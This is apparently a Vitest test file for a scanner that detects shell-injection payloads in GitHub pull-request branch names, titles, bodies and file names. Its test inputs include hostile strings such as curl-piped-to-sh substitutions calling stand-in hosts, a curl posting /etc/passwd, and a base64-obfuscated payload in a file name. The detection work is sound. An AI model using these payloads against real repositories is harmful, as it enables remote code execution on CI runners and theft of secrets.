import { describe, expect, it } from 'vitest';
import { prMetadataFindings, shellPayloadIn, shellPayloadOf } from '../../../src/ecosystems/github-actions/pr-metadata.js';
import { makeFile, makeSnapshot } from '../../support/snapshot-factory.js';

const FORMAT = `name: format
on: pull_request_target
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: |
          git fetch origin \${{ github.head_ref }}
          npx prettier --check .
`;

describe('pr-metadata-shell-payload', () => {
  it('recognizes shell syntax in branch names and titles, and only strong forms in bodies', () => {
    expect(shellPayloadIn('main$({curl,-sSfL,raw.example.dev/x}${IFS}|${IFS}bash)', 'branch')).toBe('${IFS}');
    expect(shellPayloadIn('fix-$(id)', 'branch')).toBe('$(id)');
    expect(shellPayloadIn('docs: update; curl -s https://x.example | sh', 'title')).toBe('; curl');
    expect(shellPayloadIn('chore: bump `curl -d @/etc/passwd x.example` deps', 'title')).toBe('`curl -d @/etc/passwd x.example`');
    expect(shellPayloadIn('Fixes #12.\n\n"$(curl -sSf https://x.example/p | sh)"', 'body')).toBe('$(curl');
  });

  it('does not flag ordinary branch names, titles with code spans, or documentation in bodies', () => {
    for (const branch of ['dependabot/npm_and_yarn/zod-4.1.12', 'feat/login-page', 'fix/issue-123_retry']) expect(shellPayloadIn(branch, 'branch')).toBeNull();
    for (const title of ['fix: handle `null` in the parser', 'docs: explain `npm ci` vs install', 'feat(cli): add --json | --yaml output flags', 'Refactor A && B paths']) expect(shellPayloadIn(title, 'title')).toBeNull();
    expect(shellPayloadIn('Run `npm test` locally. The script reads $(pwd)/config.', 'body')).toBeNull();
  });

  it("reads a Rust macro repetition in a title as Rust, not as a command substitution; a command inside or beside one is still one (calib37)", () => {
    // serde_json's "Switch to $(,)? in tri macro".
    for (const title of ['Switch to $(,)? in tri macro', 'Accept a trailing comma with `$(,)?`', 'Support `$($arg:tt)*` in the format macro', 'Allow $($e:expr),* in vec-like macros', 'Use $( $k:expr => $v:expr ),* in map!', 'Parse $(;)* between items']) expect(shellPayloadIn(title, 'title')).toBeNull();
    // crossbeam's "select_macro: Handle block as { $($:tt)* }": the metavariable's name left out.
    expect(shellPayloadIn('select_macro: Handle block as { $($:tt)* }', 'title')).toBeNull();
    expect(shellPayloadIn('select_macro: Handle block as { $($:tt) }', 'title')).toBe('$($:tt)');
    expect(shellPayloadIn('select_macro: Handle block as { $($:sh)* }', 'title')).toBe('$($:sh)');
    // Words, pipes or a nested substitution inside, no repetition operator after, or a real one beside: still reported.
    expect(shellPayloadIn('Switch to $($x:tt;id)* in tri macro', 'title')).toBe('$($x:tt;id)');
    expect(shellPayloadIn('Switch to $(id)? in tri macro', 'title')).toBe('$(id)');
    expect(shellPayloadIn('Switch to $(,) in tri macro', 'title')).toBe('$(,)');
    expect(shellPayloadIn('Switch to $($(curl evil.example):tt)*', 'title')).toBe('$($(curl evil.example)');
    expect(shellPayloadIn('Use $(,)? and $(curl -s x.example|sh)', 'title')).toBe('$(curl -s x.example|sh)');
    // A branch name is not a title: no Rust is written there.
    expect(shellPayloadIn('fix-$(,)?', 'branch')).toBe('$(,)');
    const rust = makeSnapshot({ title: 'Switch to $(,)? in tri macro', baseFiles: [] });
    expect(prMetadataFindings(rust)).toEqual([]);
  });

  it('is critical and names the base workflow that expands it, high when none does', () => {
    const hostile = makeSnapshot({ headBranch: 'x$(curl${IFS}-sSfL${IFS}evil.example|sh)', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] });
    const [finding] = prMetadataFindings(hostile);
    expect([finding?.id, finding?.severity, finding?.path, finding?.line]).toEqual(['pr-metadata-shell-payload', 'critical', '.github/workflows/format.yml', 8]);
    expect(finding?.detail).toContain('.github/workflows/format.yml:8 (job format, ${{ github.head_ref }})');
    const unread = makeSnapshot({ title: 'x; curl evil.example | sh', baseFiles: [] });
    expect(prMetadataFindings(unread).map((f) => [f.severity, f.path])).toEqual([['high', '.github/workflows']]);
  });

  it('reads a code span that only names a command and its options as Markdown, unless a base workflow runs the field', () => {
    expect(shellPayloadOf('Do not trigger a `BytesWarning` under `python -bb`', 'title')).toEqual({ text: '`python -bb`', codeSpan: true });
    expect(shellPayloadOf('chore: bump `curl -d @/etc/passwd x.example` deps', 'title')?.codeSpan).toBe(false);
    expect(shellPayloadOf('docs: `rm -rf node_modules` then `curl -s https://x.example/i | sh`', 'title')?.codeSpan).toBe(false);
    expect(shellPayloadOf('Running `rm -rf node_modules` then `curl -sO https://x.example/i`', 'body')).toEqual({ text: '`curl -sO https://x.example/i`', codeSpan: false });
    expect(shellPayloadOf('`sh -c id` `bash x.example/run`', 'title')?.codeSpan).toBe(false);
    const quiet = (title: string, body: string) => prMetadataFindings(makeSnapshot({ title, body, baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] }));
    expect(quiet('Do not trigger a `BytesWarning` under `python -bb`', 'Follow-up to #12: the mismatch showed in `curl -V`.')).toEqual([]);
    expect(quiet('chore: bump `curl -d @/etc/passwd x.example` deps', '').map((f) => [f.title, f.severity])).toEqual([["The pull request's title carries shell syntax", 'high']]);
    // A workflow that pastes the title into a script runs even a plain code span.
    const expanding = FORMAT.replace('${{ github.head_ref }}', '${{ github.event.pull_request.title }}');
    expect(prMetadataFindings(makeSnapshot({ title: 'Support `python -m pkg`', baseFiles: [{ path: '.github/workflows/format.yml', content: expanding }] })).map((f) => f.severity)).toEqual(['critical']);
  });

  it('does not report metadata without shell syntax, even when base workflows expand it', () => {
    expect(prMetadataFindings(makeSnapshot({ headBranch: 'feat/x', title: 'feat: x', body: 'adds x', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] }))).toEqual([]);
  });
});

describe('pr-metadata-shell-payload: changed file names (hackerbot-claw, February 2026)', () => {
  it('reports a changed file whose name (or former name) carries shell syntax, high, at that file', () => {
    const named = makeSnapshot({ files: [makeFile('docs/$(echo${IFS}Y3VybCBldmlsLmV4YW1wbGV8c2g|base64${IFS}-d|bash).md', { patch: '@@ -0,0 +1 @@\n+x' })] });
    expect(prMetadataFindings(named).map((f) => [f.severity, f.path, f.title])).toEqual([['high', 'docs/$(echo${IFS}Y3VybCBldmlsLmV4YW1wbGV8c2g|base64${IFS}-d|bash).md', "A changed file's name carries shell syntax"]]);
    const renamed = makeSnapshot({ files: [makeFile('docs/a.md', { previousPath: 'docs/x;curl evil.example|sh.md', status: 'renamed' })] });
    expect(prMetadataFindings(renamed).map((f) => f.severity)).toEqual(['high']);
  });
  it('is quiet on the file names projects have: route parameters, groups, ampersands, spaces', () => {
    const files = ['app/routes/$userId.tsx', 'app/(marketing)/[...slug]/page.tsx', 'docs/Q&A.md', 'src/routes/posts.$postId_.edit.tsx', 'assets/icons/a b (1).svg', 'src/$lib/utils.ts'].map((p) => makeFile(p, { patch: '@@ -0,0 +1 @@\n+x' }));
    expect(prMetadataFindings(makeSnapshot({ files }))).toEqual([]);
  });
});
